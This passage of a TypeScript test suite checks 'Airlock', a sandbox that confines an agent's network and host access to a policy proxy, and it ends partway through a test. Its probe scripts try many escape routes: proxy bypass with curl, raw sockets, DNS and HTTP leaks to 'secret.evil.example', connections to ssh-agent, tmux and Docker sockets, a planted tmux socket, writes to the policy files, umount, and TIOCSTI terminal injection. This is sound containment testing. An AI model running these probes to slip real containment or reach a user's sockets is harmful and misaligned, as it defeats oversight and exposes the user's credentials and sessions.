// Enforced capture: inside `airlock run`'s sandbox the only way out is Airlock. One sandboxed run
// executes a probe script that tries every bypass (curl --noproxy, Node net.connect, a Python
// socket, getent, dig to a DNS server on the host's loopback, a nested shell) and the same
// requests through the proxy, printing name=result lines; the test checks them and what the
// upstreams and the DNS server saw.
import t from 'tap';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import net from 'node:net';
import path from 'node:path';
import { createRequire } from 'node:module';
import fc from 'fast-check';
import { namespaceFlags, sandboxSupport } from '../../sandbox/support.ts';
import { boundSockets, foreignSockets, projectFolder, SANDBOX_TASKS } from '../../sandbox/launch.ts';
import { pidsHierarchy, taskCgroup } from '../../sandbox/task-cgroup.ts';
import { airlockBin, policyDir, repo, results, runAirlock, startWorld } from './helpers.ts';

const support = sandboxSupport();
t.ok(support.available, `this machine supports the sandbox (${support.available ? 'yes' : support.reason})`);

const world = await startWorld();
t.teardown(() => world.close());

const undici = createRequire(import.meta.url).resolve('undici');
// A Unix socket server on the host, like a tmux server, an ssh-agent or X11 in /tmp would be.
const hostSocket = path.join(world.dir, 'host-service.sock');
let hostSocketHits = 0;
const hostService = net.createServer((c) => {
  hostSocketHits++;
  c.end('host service\n');
});
await new Promise<void>((resolve) => hostService.listen(hostSocket, resolve));
t.teardown(() => new Promise<void>((resolve) => hostService.close(() => resolve())));
const UP = world.http.port;
const UPS = world.https.port;

const probe = `
r() { printf '%s=%s\\n' "$1" "$2"; }
curl -sS --noproxy '*' -m 5 -o /dev/null http://127.0.0.1:${UP}/bypass-curl 2>/dev/null; r curl_direct $?
curl -sS --noproxy '*' -m 5 -o /dev/null -k https://127.0.0.1:${UPS}/bypass-curl-tls 2>/dev/null; r curl_direct_tls $?
r node_direct "$(node -e "require('net').connect(${UP},'127.0.0.1').on('connect',()=>console.log('CONNECTED')).on('error',e=>console.log(e.code))")"
r python_direct "$(python3 -c "
import socket
try:
    socket.create_connection(('127.0.0.1', ${UP}), 5); print('CONNECTED')
except OSError as e:
    print(type(e).__name__)
")"
getent hosts example.com >/dev/null 2>&1; r getent $?
r unix_node "$(node -e "require('net').connect('${hostSocket}').on('connect',()=>console.log('CONNECTED')).on('error',e=>console.log(e.code))")"
r unix_python "$(python3 -c "
import socket
a, b = socket.socketpair()
try:
    s = socket.socket(socket.AF_UNIX); s.connect('${hostSocket}'); print('CONNECTED')
except OSError as e:
    print(type(e).__name__)
")"
dig +time=1 +tries=1 @127.0.0.1 -p ${world.dns.port} secret.evil.example >/dev/null 2>&1; r dig $?
r nested "$(sh -c "sh -c 'curl -sS --noproxy \\"*\\" -m 5 -o /dev/null http://127.0.0.1:${UP}/bypass-nested 2>/dev/null; echo \\$?'")"
r links "$(ip -o link | awk -F': ' '{print $2}' | tr '\\n' ' ')"
r home_entries "$(ls -A '${world.home}' | wc -l)"
cg=$(sed -n 's|^[0-9]*:\\([^:]*,\\)\\{0,1\\}pids\\(,[^:]*\\)\\{0,1\\}:\\(.*\\)$|/pids\\3|p' /proc/self/cgroup); [ -n "$cg" ] || cg=$(sed -n 's/^0:://p' /proc/self/cgroup)
r cgroup "$cg"
r tasks_max "$(cat "/sys/fs/cgroup$cg/pids.max" 2>/dev/null)"
(echo $$ > "/sys/fs/cgroup$cg/../cgroup.procs") 2>/dev/null; r cgroup_leave $?
cat '${world.home}/agents.json' >/dev/null 2>&1; r home_read $?
r block_devices "$(find /dev -type b 2>/dev/null | wc -l)"
r shm "$(touch /dev/shm/airlock-probe && echo writable)"
r capeff "$(awk '/^CapEff/ {print $2}' /proc/self/status)"
umount '${world.home}' 2>/dev/null; r umount_home $?
(: >> '${path.join(policyDir, 'airlock.rego')}') 2>/dev/null; r write_policy $?
(: > '${path.join(policyDir, 'added-by-agent.rego')}') 2>/dev/null; r add_policy_file $?
(: >> '${path.join(repo, 'bin', 'airlock.js')}') 2>/dev/null; r write_airlock_code $?
(: >> ./agent-wrote-this) 2>/dev/null; r write_cwd $?
umount /proc 2>/dev/null; r umount_proc $?
r allowed_http "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://allowed.test:${UP}/ok-http)"
r allowed_https "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' https://allowed.test:${UPS}/ok-https)"
r allowed_dns "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://dns-allowed.test:${UP}/ok-dns)"
r denied "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://denied.test:${UP}/denied)"
r denied_evil "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://secret.evil.example:${UP}/leak)"
r node_proxy "$(node --input-type=module -e "
const { EnvHttpProxyAgent, fetch } = await import('${undici}');
const d = new EnvHttpProxyAgent();
const a = await fetch('https://allowed.test:${UPS}/ok-node', { dispatcher: d });
const b = await fetch('https://denied.test:${UPS}/denied-node', { dispatcher: d });
console.log(a.status + '/' + b.status);
")"
r python_proxy "$(python3 -c "
import requests
a = requests.get('https://allowed.test:${UPS}/ok-python', timeout=10)
b = requests.get('https://denied.test:${UPS}/denied-python', timeout=10)
print(f'{a.status_code}/{b.status_code}')
")"
`;

t.test('run by root, the sandbox keeps CAP_SETFCAP only when the command is nested (never for the command itself)', async (t) => {
  // Without nesting the command is the first process's child and would inherit it (bubblewrap
  // raises added capabilities as ambient): file capabilities set on a file a host user later runs.
  t.same(namespaceFlags(false, true).filter((f, i, all) => all[i - 1] === '--cap-add'), ['CAP_SETFCAP'], 'root, nested: the bridge maps the nested namespace');
  t.notOk(namespaceFlags(false, false).includes('--cap-add'), 'root, not nested: no capability at all');
  t.notOk(namespaceFlags(true, true).includes('--cap-add'), 'unprivileged: none needed');
});

t.test('the run\'s pids cgroup is found on cgroup v1 and v2 (sixteenth pass)', async (t) => {
  const v1 = '30 25 0:26 / /sys/fs/cgroup/pids rw,nosuid - cgroup cgroup rw,pids\n31 25 0:27 / /sys/fs/cgroup/unified rw - cgroup2 cgroup2 rw\n';
  t.same(pidsHierarchy(v1, '8:pids:/user.slice/a:b\n4:memory:/x\n0::/\n'), { v1: true, mount: '/sys/fs/cgroup/pids', own: '/user.slice/a:b' }, 'v1: the pids hierarchy and the path after the second colon');
  t.same(pidsHierarchy(v1, '5:cpu,pids:/s\n0::/\n'), { v1: true, mount: '/sys/fs/cgroup/pids', own: '/s' }, 'v1: pids mounted with another controller');
  const v2 = '40 30 0:35 / /sys/fs/cgroup rw,nosuid - cgroup2 cgroup2 rw,nsdelegate\n';
  t.same(pidsHierarchy(v2, '0::/user.slice/user-0.slice/session-1.scope\n'), { v1: false, mount: '/sys/fs/cgroup', own: '/user.slice/user-0.slice/session-1.scope' }, 'v2: the unified hierarchy');
  t.equal(pidsHierarchy('', '0::/\n'), undefined, 'none mounted: none');
});

t.test('inside the sandbox only the proxy leads out, and the policy decides', async (t) => {
  const script = path.join(world.dir, 'probe.sh');
  fs.writeFileSync(script, probe);
  const run = await runAirlock(['--agent', world.agent, '--home', world.home, '--', 'sh', script], { cwd: world.work });
  t.equal(run.code, 0, `airlock run succeeded (stderr: ${run.stderr.trim()})`);
  const r = results(run.stdout);

  // No direct route: the sandbox's 127.0.0.1 is its own, nothing listens there.
  t.equal(r.curl_direct, '7', 'curl --noproxy to the upstream cannot connect');
  t.equal(r.curl_direct_tls, '7', 'curl --noproxy over TLS cannot connect');
  t.equal(r.node_direct, 'ECONNREFUSED', 'Node net.connect to the upstream is refused');
  t.equal(r.python_direct, 'ConnectionRefusedError', 'a Python socket to the upstream is refused');
  t.equal(r.nested, '7', 'a shell spawned by a shell is confined too');
  t.equal(r.unix_node, 'EACCES', 'Node cannot connect to a Unix socket on the host filesystem');
  t.equal(r.unix_python, 'PermissionError', 'Python cannot create a Unix socket (socketpair still works)');
  t.equal(hostSocketHits, 0, 'the host\'s Unix socket service saw no connection');
  t.not(r.getent, '0', 'getent hosts example.com resolves nothing');
  t.equal(r.dig, '9', 'dig gets no answer from a DNS server on the host loopback');
  t.equal(r.links?.trim(), 'lo', 'the only network interface is loopback');
  t.equal(r.home_entries, '0', 'the state folder looks empty inside');
  // Sixteenth pass: run by root, RLIMIT_NPROC binds nothing (the kernel exempts the host's root);
  // where a pids controller is there to use, a cgroup of the run's own bounds its tasks.
  const cgroupAvailable = process.getuid?.() === 0 && (() => {
    const probeCg = taskCgroup(1);
    if (probeCg) fs.rmdirSync(probeCg.dir);
    return !!probeCg;
  })();
  if (cgroupAvailable) {
    t.match(r.cgroup, /\/airlock-run-\d+$/, `run by root, the sandbox is in a pids cgroup of its own (${r.cgroup})`);
    t.equal(r.tasks_max, String(SANDBOX_TASKS), 'which bounds its processes and threads as RLIMIT_NPROC does for other users');
    t.not(r.cgroup_leave, '0', 'and which it cannot leave');
  } else t.pass(`no pids cgroup is used here (not root, or no pids controller to use: ${r.cgroup})`);
  t.not(r.home_read, '0', 'agents.json of the state folder cannot be read');
  t.equal(r.block_devices, '0', 'no block devices: the disk under the hidden state folder cannot be read raw');
  t.equal(r.shm, 'writable', '/dev/shm is a private writable tmpfs');
  t.equal(r.capeff, '0000000000000000', 'no capabilities inside, even when airlock run is root');
  t.not(r.umount_home, '0', 'what hides the state folder cannot be unmounted');
  t.not(r.umount_proc, '0', 'the sandbox\'s /proc cannot be unmounted to reach the host\'s');
  t.not(r.write_policy, '0', 'the running Airlock\'s policy folder is read-only inside');
  t.not(r.add_policy_file, '0', 'no file can be added to it');
  fs.rmSync(path.join(policyDir, 'added-by-agent.rego'), { force: true });
  t.not(r.write_airlock_code, '0', 'Airlock\'s own code is read-only inside');
  t.equal(r.write_cwd, '0', 'the working directory stays writable');

  // Through the proxy, the test policy decides.
  t.equal(r.allowed_http, '200', 'allowed host over HTTP reaches the upstream');
  t.equal(r.allowed_https, '200', 'allowed host over HTTPS (CONNECT + Airlock CA) reaches the upstream');
  t.equal(r.allowed_dns, '200', 'allowed unpinned host is resolved by the proxy and reached');
  t.equal(r.denied, '403', 'denied host gets 403');
  t.equal(r.denied_evil, '403', 'denied unknown host gets 403');
  t.equal(r.node_proxy, '200/403', 'Node fetch (undici EnvHttpProxyAgent) goes through the proxy');
  t.equal(r.python_proxy, '200/403', 'Python requests goes through the proxy');

  const httpPaths = world.http.hits.map((h) => h.url);
  const httpsPaths = world.https.hits.map((h) => h.url);
  t.same(httpPaths.sort(), ['/ok-dns', '/ok-http'], 'the HTTP upstream saw only the allowed requests');
  t.same(httpsPaths.sort(), ['/ok-https', '/ok-node', '/ok-python'], 'the HTTPS upstream saw only the allowed requests');
  t.same(world.dns.queries.filter((q) => q !== 'dns-allowed.test'), [], 'the DNS server saw no query but the allowed one');
  t.ok(world.dns.queries.includes('dns-allowed.test'), 'the DNS server does see lookups the proxy makes after an allow');
});

t.test('--allow-unix-sockets lifts only the Unix socket rule (and says so); the session\'s key and command sockets, and every socket the host has bound outside the project, stay hidden', async (t) => {
  const before = hostSocketHits;
  // The user's session: an ssh-agent, a tmux server (named by $TMUX and at its usual place under the
  // temp folder), VS Code's git askpass handle, kitty's remote control, the D-Bus session bus, X11.
  const tmp = fs.mkdtempSync(path.join(world.dir, 'session-'));
  const uid = process.getuid!();
  fs.mkdirSync(path.join(tmp, `tmux-${uid}`), { mode: 0o700 });
  fs.mkdirSync(path.join(tmp, '.X11-unix'));
  const session: Record<string, string> = {
    ssh_agent: path.join(tmp, 'agent.sock'), tmux: path.join(tmp, 'tmux-other.sock'), tmux_default: path.join(tmp, `tmux-${uid}`, 'default'),
    vscode_git: path.join(tmp, 'vscode-git-1.sock'), kitty: path.join(tmp, 'kitty-1'), dbus: path.join(tmp, 'dbus-1'), x_eleven: path.join(tmp, '.X11-unix', 'X0'),
    // Twelfth pass: sockets of the user's other sessions, which no variable names: another
    // ssh-agent (sshd's forwarded agent of another login), a dev container's forwarded agent and
    // another window's git askpass handle, a dbus-launch bus, PostgreSQL (peer authentication).
    ssh_other: path.join(tmp, 'ssh-XXXXk3Jd9a', 'agent.4242'), vscode_ssh: path.join(tmp, 'vscode-ssh-auth-0b1c.sock'),
    vscode_git_other: path.join(tmp, 'vscode-git-2f3e.sock'), dbus_launch: path.join(tmp, 'dbus-Ab12Cd34'), postgres: path.join(tmp, '.s.PGSQL.5432'),
    redis: path.join(tmp, 'redis.sock'),
    // Twenty-first pass: another Neovim's server where no runtime folder is set, tmate's, abduco's.
    nvim_other: path.join(tmp, `nvim.${os.userInfo().username}`, 'Xq3ab1', 'nvim.4242.0'), tmate: path.join(tmp, `tmate-${uid}`, 'default'),
    abduco: path.join(tmp, 'abduco', os.userInfo().username, 'dev@host'),
  };
  fs.mkdirSync(path.dirname(session.ssh_other!), { mode: 0o700 });
  for (const k of ['nvim_other', 'tmate', 'abduco']) fs.mkdirSync(path.dirname(session[k]!), { recursive: true, mode: 0o700 });
  // And the agents and connection-sharing sockets the user's ssh config names (not the
  // environment): a password manager's agent, a ControlMaster's socket (commands on the remote
  // host through the user's open connection), 1Password's agent at its usual place.
  const sshHome = fs.mkdtempSync(path.join(world.dir, 'ssh-home-'));
  fs.mkdirSync(path.join(sshHome, '.ssh'));
  fs.mkdirSync(path.join(sshHome, '.1password'));
  fs.writeFileSync(path.join(sshHome, '.ssh', 'config'), `Host *\n  IdentityAgent "${path.join(tmp, 'pm-agent.sock')}"\n  ControlMaster auto\n  ControlPath ${tmp}/cm-%r@%h:%p\n`);
  Object.assign(session, { identity_agent: path.join(tmp, 'pm-agent.sock'), control_master: path.join(tmp, 'cm-git@example.com:22'), onepassword: path.join(sshHome, '.1password', 'agent.sock') });
  // A container engine's socket in the home folder (Docker Desktop) and one a docker context names.
  fs.mkdirSync(path.join(sshHome, '.docker', 'run'), { recursive: true });
  fs.mkdirSync(path.join(sshHome, '.docker', 'contexts', 'meta', 'abc123'), { recursive: true });
  fs.writeFileSync(path.join(sshHome, '.docker', 'contexts', 'meta', 'abc123', 'meta.json'), JSON.stringify({ Name: 'vm', Endpoints: { docker: { Host: `unix://${path.join(tmp, 'engine.sock')}` } } }));
  Object.assign(session, { docker_desktop: path.join(sshHome, '.docker', 'run', 'docker.sock'), docker_context: path.join(tmp, 'engine.sock') });
  // Fourteenth pass: a runtime folder outside /run (WSLg's, a container's /tmp/runtime-$USER) with
  // the user's systemd manager (`systemd-run --user` runs commands outside), the session bus,
  // podman's API and a Wayland compositor; and a PulseAudio server named by its path.
  const runtime = fs.mkdtempSync(path.join(world.dir, 'runtime-'));
  for (const d of ['systemd', 'podman']) fs.mkdirSync(path.join(runtime, d));
  Object.assign(session, { systemd_user: path.join(runtime, 'systemd', 'private'), runtime_bus: path.join(runtime, 'bus'), podman: path.join(runtime, 'podman', 'podman.sock'), wayland: path.join(runtime, 'wayland-0'), pulse: path.join(tmp, 'pulse-native') });
  // Twenty-third pass: sockets no list names (a MySQL socket whose unix_socket login needs no
  // password, a keybase service, a Jupyter kernel, a language server), at places fast-check picks
  // (a space in a folder's name too): every socket the host has bound outside the working
  // directory is hidden. Control: the project's own socket stays reachable.
  const seed = process.env.AIRLOCK_FUZZ_SEED ? Number(process.env.AIRLOCK_FUZZ_SEED) : undefined;
  const unlisted = fc.sample(fc.tuple(fc.stringMatching(/^[a-z][a-z0-9 ._-]{0,10}$/), fc.stringMatching(/^[a-z][a-z0-9._-]{0,10}$/)), { numRuns: 6, ...(seed !== undefined ? { seed } : {}) });
  const places = fs.mkdtempSync(path.join(world.dir, 'unlisted-'));
  Object.assign(session, { mysql: path.join(places, 'var-lib-mysql', 'mysql.sock'), keybase: path.join(places, '.config', 'keybase', 'keybased.sock') });
  unlisted.forEach(([dir, name], i) => (session[`unlisted_${'abcdefgh'[i]}`] = path.join(places, `${i}${dir}`, `${name}.sock`)));
  for (const k of Object.keys(session).filter((n) => n === 'mysql' || n === 'keybase' || n.startsWith('unlisted_'))) fs.mkdirSync(path.dirname(session[k]!), { recursive: true });
  // Twenty-ninth pass: sockets whose name in the kernel's table is not where they are now, which
  // no list names either. OpenSSH's ControlMaster (mux.c) binds `<ControlPath>.<16 random>`, links
  // the ControlPath to it and removes the first name, so the table keeps a name that is gone (a
  // ControlPath given on the command line: ansible's ~/.ansible/cp, a script's `ssh -o ControlPath=`;
  // `ssh -S` then runs commands on the remote host through the user's open connection); a service
  // renames its socket into place; one binds a relative name in its own folder (the table shows
  // it as given); one keeps a second name (a hard link) in the home folder. Names picked by fast-check.
  const moved = fs.mkdtempSync(path.join(world.dir, 'mv-'));
  const movedNames = fc.sample(fc.tuple(fc.stringMatching(/^[a-z][a-z0-9 ._-]{0,6}$/), fc.stringMatching(/^[a-z][a-z0-9@:._-]{0,8}$/)), { numRuns: 4, ...(seed !== undefined ? { seed } : {}) });
  let movedHits = 0;
  const movedServers: net.Server[] = [];
  const movedTargets: Record<string, string> = {};
  const listenAt = (p: string): Promise<void> => {
    const srv = net.createServer((c) => {
      movedHits++;
      c.destroy();
    });
    movedServers.push(srv);
    return new Promise<void>((resolve) => srv.listen(p, resolve));
  };
  t.teardown(() => movedServers.forEach((srv) => srv.close()));
  /** A real python3 server (under `wrap`, in `cwd`) listening at `name`; false when it could not start. */
  const pyServer = (wrap: string[], name: string, cwd?: string): Promise<boolean> => {
    const argv = [...wrap, 'python3', '-c', "import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.bind(sys.argv[1])\ns.listen()\nprint('ready', flush=True)\nwhile True:\n    c, _ = s.accept(); print('hit', flush=True); c.close()", name];
    const py = spawn(argv[0]!, argv.slice(1), { cwd, stdio: ['ignore', 'pipe', 'ignore'] });
    t.teardown(() => py.kill());
    return new Promise<boolean>((resolve) => {
      py.on('exit', () => resolve(false));
      py.stdout.on('data', (d: Buffer) => {
        if (d.includes('ready')) resolve(true);
        if (d.includes('hit')) movedHits++;
      });
    });
  };
  for (const [i, kind] of (['link', 'rename', 'relative', 'hardlink'] as const).entries()) {
    const [dir, name] = movedNames[i]!;
    const folder = path.join(moved, `${i}${dir}`);
    fs.mkdirSync(folder);
    const final = path.join(folder, name);
    if (kind === 'link') {
      await listenAt(`${final}.Xq3ab1Zr9PkL0mWd`);
      fs.linkSync(`${final}.Xq3ab1Zr9PkL0mWd`, final);
      fs.unlinkSync(`${final}.Xq3ab1Zr9PkL0mWd`);
    } else if (kind === 'rename') {
      await listenAt(path.join(folder, '.tmp'));
      fs.renameSync(path.join(folder, '.tmp'), final);
    } else if (kind === 'hardlink') {
      await listenAt(final);
      fs.mkdirSync(path.join(sshHome, '.local'), { recursive: true });
      movedTargets.moved_hardlink_other = path.join(sshHome, '.local', `${name}-2`);
      fs.linkSync(final, movedTargets.moved_hardlink_other);
    } else {
      // A real python3 server of another process, bound by a relative name in its own folder.
      await pyServer([], name, folder);
    }
    movedTargets[`moved_${kind}`] = final;
  }
  // Sockets bound in another network namespace, which the host's table does not list: one started
  // under `unshare -n` at a host path, and a container's (its own mounts too) bound on a folder of
  // the host's it mounts at another path (a database container with its socket folder mounted).
  const foreign = path.join(moved, 'netns');
  const ctrRoot = path.join(moved, 'ctr-run');
  fs.mkdirSync(foreign);
  fs.mkdirSync(ctrRoot);
  if (await pyServer(['unshare', '-rn'], path.join(foreign, 'db.sock'))) movedTargets.netns_same_path = path.join(foreign, 'db.sock');
  if (await pyServer(['unshare', '-rnm', 'sh', '-c', `mount --bind '${foreign}' '${ctrRoot}' && exec "$@"`, 'sh'], path.join(ctrRoot, '.s.PGSQL.5432'))) movedTargets.netns_container = path.join(foreign, '.s.PGSQL.5432');
  // And one on the host's network but in a mount namespace of its own (a container run with the
  // host's network, a snap's private /tmp): the host's table names it by a path only it sees.
  const mntHost = path.join(moved, 'mnt-host');
  const mntCtr = path.join(moved, 'mnt-ctr');
  fs.mkdirSync(mntHost);
  fs.mkdirSync(mntCtr);
  if (await pyServer(['unshare', '-rm', 'sh', '-c', `mount --bind '${mntHost}' '${mntCtr}' && exec "$@"`, 'sh'], path.join(mntCtr, 'api.sock'))) movedTargets.mountns_host_network = path.join(mntHost, 'api.sock');
  t.ok(movedTargets.netns_same_path && movedTargets.netns_container && movedTargets.mountns_host_network, 'the servers in other namespaces started (unshare -rn, -rnm, -rm)');
  // An abstract socket of the host's (X11's `@/tmp/.X11-unix/X0`, a `unix:abstract=` D-Bus): the
  // abstract namespace is the network namespace's, so none is reached (checked, not a change).
  await listenAt(`\0airlock-hunt29-abstract-${process.pid}`);
  movedTargets.abstract = `@airlock-hunt29-abstract-${process.pid}`;
  const projectSocket = path.join(world.work, 'dev-service.sock');
  let projectHits = 0;
  const projectServer = net.createServer((c) => {
    projectHits++;
    c.destroy();
  });
  await new Promise<void>((resolve) => projectServer.listen(projectSocket, resolve));
  t.teardown(() => projectServer.close());
  // No tmux server runs where TMUX_TMPDIR points: the agent makes its folder and listens there, for
  // the user's next `tmux` (a server may tell its client to run any command).
  const tmuxTmp = fs.mkdtempSync(path.join(world.dir, 'tmux-tmpdir-'));
  const planted = path.join(tmuxTmp, `tmux-${uid}`, 'default');
  let sessionHits = 0;
  const servers = Object.values(session).map((p) => net.createServer((c) => {
    sessionHits++;
    c.destroy();
  }));
  await Promise.all(servers.map((srv, i) => new Promise<void>((resolve) => srv.listen(Object.values(session)[i]!, resolve))));
  t.teardown(() => servers.forEach((srv) => srv.close()));
  const env = {
    ...process.env, TMPDIR: tmp, SSH_AUTH_SOCK: session.ssh_agent, TMUX: `${session.tmux},123,0`, VSCODE_GIT_IPC_HANDLE: session.vscode_git,
    KITTY_LISTEN_ON: `unix:${session.kitty}`, DBUS_SESSION_BUS_ADDRESS: `unix:path=${session.dbus},guid=0`, TMUX_TMPDIR: tmuxTmp, HOME: sshHome,
    XDG_RUNTIME_DIR: runtime, WAYLAND_DISPLAY: 'wayland-0', PULSE_SERVER: `unix:${session.pulse}`,
  };
  // One Node for every connection attempt (each start inside costs ~0.1 s).
  const targets = JSON.stringify({ unix: hostSocket, project: projectSocket, ...session, ...movedTargets }).replace(/"/g, '\\"');
  const script = [
    `node -e "for (const [n, p] of Object.entries(JSON.parse('${targets}'))) require('net').connect(p.startsWith('@') ? '\\0' + p.slice(1) : p).on('connect',()=>console.log(n+'=CONNECTED')).on('error',e=>console.log(n+'='+e.code))"`,
    `curl -sS --noproxy '*' -m 5 -o /dev/null http://127.0.0.1:${UP}/bypass-allow-unix 2>/dev/null; echo curl=$?`,
    `mkdir -p -m 700 '${path.dirname(planted)}' 2>/dev/null; python3 -c "import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); print('tmux_planted=yes')" '${planted}' 2>/dev/null`,
  ].join('\n');
  const own = path.join(tmp, 'agent-own.sock');
  const run = await runAirlock(['--agent', world.agent, '--home', world.home, '--allow-unix-sockets', '--', 'sh', '-c',
    `${script}\npython3 -c "import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); c=socket.socket(socket.AF_UNIX); c.connect(sys.argv[1]); print('own=yes')" '${own}'`], { cwd: world.work, env });
  const r = results(run.stdout);
  t.match(run.stderr, /warning: --allow-unix-sockets/);
  t.equal(r.project, 'CONNECTED', 'control: the project\'s own socket is reachable, so the filter is what stopped it before');
  t.equal(projectHits, 1);
  t.ok(r.unix && r.unix !== 'CONNECTED', `a host service's socket outside the working directory, which no list names, is hidden (${r.unix})`);
  t.equal(hostSocketHits, before, 'the host service received nothing');
  t.equal(r.own, 'yes', 'control: a socket the agent makes during the run works');
  for (const name of Object.keys(session)) t.ok(r[name] && r[name] !== 'CONNECTED', `${name}: hidden (${r[name]})`);
  t.equal(sessionHits, 0, 'no session socket was reached');
  for (const name of Object.keys(movedTargets)) t.ok(r[name] && r[name] !== 'CONNECTED', `twenty-ninth pass: ${name} (its name in the table is gone, relative, one of two, or bound in another namespace): hidden (${r[name]})`);
  t.equal(movedHits, 0, 'no socket known by another name than the table\'s, or bound in another network namespace, was reached');
  t.notOk(fs.existsSync(planted), `no tmux server socket of the agent's on the host (the agent ${r.tmux_planted ? 'listened in its private copy' : 'could not listen'})`);
  t.equal(r.curl, '7', 'TCP is still confined to the proxy');
});

t.test('twenty-third pass: the host\'s bound sockets are read from the kernel\'s table, path spaces and all; abstract ones, files and the project\'s are not taken', async (t) => {
  const dir = fs.mkdtempSync(path.join(world.dir, 'table-'));
  const project = path.join(dir, 'project');
  fs.mkdirSync(path.join(dir, 'a b'), { recursive: true });
  fs.mkdirSync(project);
  const listening = [path.join(dir, 'a b', 'svc one.sock'), path.join(dir, 'plain.sock'), path.join(project, 'dev.sock')];
  const servers = listening.map((p) => net.createServer());
  await Promise.all(servers.map((srv, i) => new Promise<void>((resolve) => srv.listen(listening[i]!, resolve))));
  t.teardown(() => servers.forEach((srv) => srv.close()));
  fs.writeFileSync(path.join(dir, 'file'), '');
  const row = (i: number, p: string): string => `00000000${i}0000000: 00000002 00000000 00010000 0001 01 ${1000 + i} ${p}`;
  const table = path.join(dir, 'unix');
  fs.writeFileSync(table, ['Num       RefCount Protocol Flags    Type St Inode Path', ...listening.map((p, i) => row(i, p)), row(7, '@abstract/name'), row(8, path.join(dir, 'file')), row(9, path.join(dir, 'gone.sock')), row(5, path.join(project, 'gone.sock')), row(6, 'relative-nobody-holds.sock'), '00000000a0000000: 00000003 00000000 00000000 0001 03 8071775', ''].join('\n'));
  t.same(boundSockets(project, table).sort(), listening.slice(0, 2).sort(), 'the two outside the project, the space kept; control (twenty-ninth pass): a name gone from the project\'s folder takes none of the project\'s sockets, and a relative name no process holds takes nothing');
  t.same(boundSockets(project, path.join(dir, 'missing')), [], 'no table: nothing');
  // Twenty-ninth pass: started in the home folder (or above it, or in a temp folder itself), the
  // working directory is no project: the sockets of the user's tools there (an ssh ControlMaster's
  // under ~/.ansible/cp) were reachable as "the project's own". Read from the kernel's real table.
  const real = boundSockets(dir, '/proc/net/unix', '/proc', dir);
  t.ok(listening.every((p) => real.includes(p)), 'started in the home folder: every socket bound below it is hidden, the one in a project folder too');
  t.ok(listening.every((p) => boundSockets('/', '/proc/net/unix', '/proc', dir).includes(p)), 'started at the root: the same');
  t.notOk(boundSockets(project, '/proc/net/unix', '/proc', dir).includes(listening[2]!), 'control: a project folder inside the home folder keeps its own socket reachable');
  t.equal(projectFolder(os.tmpdir(), dir), undefined, 'a temp folder itself is no project');
  // Twenty-ninth pass: a container run by root (or another user) binds its socket in a network
  // namespace of its own, on a host folder it mounts elsewhere; airlock run, not root, may read that
  // process's table and mount table but not look into its root. A /proc as such a user sees it.
  const fake = path.join(dir, 'proc');
  const header = 'Num       RefCount Protocol Flags    Type St Inode Path\n';
  for (const [pid, rows, mounts, ns] of [
    ['self', '', '27 1 254:0 / / rw - ext4 /dev/vda rw\n', 'net:[1]'],
    ['4242', `${row(1, '/ctr/run/svc one.sock')}\n${row(2, '/ctr/proj/dev.sock')}\n`, `66 46 254:0 ${path.join(dir, 'a b').replace(/ /g, '\\040')} /ctr/run rw - ext4 /dev/vda rw\n67 46 254:0 ${project} /ctr/proj rw - ext4 /dev/vda rw\n`, 'net:[2]'],
  ] as const) {
    fs.mkdirSync(path.join(fake, pid, 'net'), { recursive: true });
    fs.mkdirSync(path.join(fake, pid, 'ns'), { recursive: true });
    fs.writeFileSync(path.join(fake, pid, 'net', 'unix'), header + rows);
    fs.writeFileSync(path.join(fake, pid, 'mountinfo'), mounts);
    fs.symlinkSync(ns, path.join(fake, pid, 'ns', 'net'));
  }
  t.same(foreignSockets(project, '/nonexistent-home', fake), [listening[0]], 'a container\'s socket whose root airlock run cannot look into is found through its mount table; control: the project\'s own, bound there too, is not taken');
});

t.test('--read-only: writes only to the working directory, the temp folder and --writable paths', async (t) => {
  // Stands in for the user's home (~/.bashrc, ~/.ssh): outside every writable path.
  const userHome = fs.mkdtempSync(path.join(os.homedir(), '.airlock-test-userhome-'));
  const extra = fs.mkdtempSync(path.join(os.homedir(), '.airlock-test-extra-'));
  t.teardown(() => {
    fs.rmSync(userHome, { recursive: true, force: true, maxRetries: 10 });
    fs.rmSync(extra, { recursive: true, force: true, maxRetries: 10 });
  });
  const script = [
    'touch in-cwd 2>/dev/null; echo cwd=$?',
    `touch ${userHome}/.bashrc 2>/dev/null; echo user_home=$?`,
    `touch ${extra}/cache 2>/dev/null; echo extra=$?`,
    `echo home_entries=$(ls -A '${world.home}' | wc -l)`,
  ].join('\n');
  // The working directory is the world folder, which contains the state folder: it must stay hidden.
  const run = await runAirlock(['--agent', world.agent, '--home', world.home, '--read-only', '--writable', extra, '--', 'sh', '-c', script], { cwd: world.dir });
  t.equal(run.code, 0, `ran (stderr: ${run.stderr.trim()})`);
  const r = results(run.stdout);
  t.equal(r.cwd, '0', 'the working directory is writable');
  t.not(r.user_home, '0', 'a file outside the writable paths cannot be written');
  t.notOk(fs.existsSync(path.join(userHome, '.bashrc')));
  t.equal(r.extra, '0', 'a --writable path is writable');
  t.equal(r.home_entries, '0', 'the state folder inside the working directory stays hidden');
});

t.test('TIOCSTI cannot type into a terminal, also one the agent makes its own (setsid, TIOCSCTTY)', async (t) => {
  // A launcher gives airlock run a pseudo-terminal that is no session's controlling terminal (a
  // harness's openpty without setsid): whatever reads it after the run would run what was typed.
  const probeTty = path.join(world.dir, 'tty.py');
  fs.writeFileSync(probeTty, [
    'import os, fcntl, termios',
    'def push(name):',
    '    try:',
    "        for ch in b'echo typed-by-agent\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))",
    "        print(name + '=injected')",
    '    except OSError as e:',
    "        print(name + '=' + (e.strerror or 'error'))",
    "print('isatty=%s' % os.isatty(0))",
    "push('tiocsti')",
    'os.setsid()',
    'try:',
    "    fcntl.ioctl(0, termios.TIOCSCTTY, 0); print('ctty=taken')",
    'except OSError as e:',
    "    print('ctty=' + e.strerror)",
    "push('own')",
    // A line discipline outlives the run on the terminal (N_NULL leaves it dead) and loads kernel
